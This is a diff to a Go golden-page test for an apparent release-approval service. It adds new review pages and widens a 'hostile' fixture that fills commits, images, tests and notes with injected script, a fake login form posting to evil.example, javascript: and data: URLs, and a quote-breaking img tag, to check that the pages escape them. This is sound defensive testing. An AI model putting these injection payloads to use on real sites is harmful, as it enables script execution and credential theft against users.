@@ -12,6 +12,7 @@ import (
 
 	"github.com/signalbox/signalbox/internal/approval"
 	"github.com/signalbox/signalbox/internal/event"
+	"github.com/signalbox/signalbox/internal/release"
 )
 
 var update = flag.Bool("update", false, "write the golden pages anew")
@@ -32,7 +33,10 @@ func TestPagesLookAsReviewed(t *testing.T) {
 		"ask-severe":  after(severe, ask),
 		"ask-own":     after(own, ask),
 		"ask-held":    after(held, ask),
+		"ask-counted": after(inSlack, ask),
 		"counted":     after(counted, result),
+		"take-back":   after(counted, func(w *world) event.Response { return w.get("t=" + w.token(dana) + "&back=1") }),
+		"taken-back":  after(takenBack, result),
 		"wrong-code": func(w *world) event.Response {
 			return w.post(w.form(dana, "WRNG-WRNG", "Looks good to me", "approve"))
 		},
@@ -91,6 +95,16 @@ func hostile(w *world) {
 		r.CustomData = script + "\n<form action=https://evil.example><input name=code>"
 		r.ReviewURL = "data:text/html," + script
 		r.StartedBy = script
+		r.Notes = []string{script}
+		r.Changes = release.Changes{
+			Commits:    []release.Commit{{ID: script, Summary: script, Author: script, URL: "javascript:alert(1)", Keys: []string{script}}},
+			More:       1,
+			MoreKeys:   []string{script},
+			Images:     []release.Image{{Repository: script, Digest: script, Verdict: release.Findings, Counts: map[string]int{script: 1, "CRITICAL": 2}}},
+			Tests:      []release.Test{{Name: script, Skipped: 1, URL: "data:text/html," + script}},
+			Superseded: []release.Superseded{{ExecutionID: script, Summary: script}},
+			Missing:    []string{script},
+		}
 		r.Environment = `prod"><img src=x>`
 	})
 }
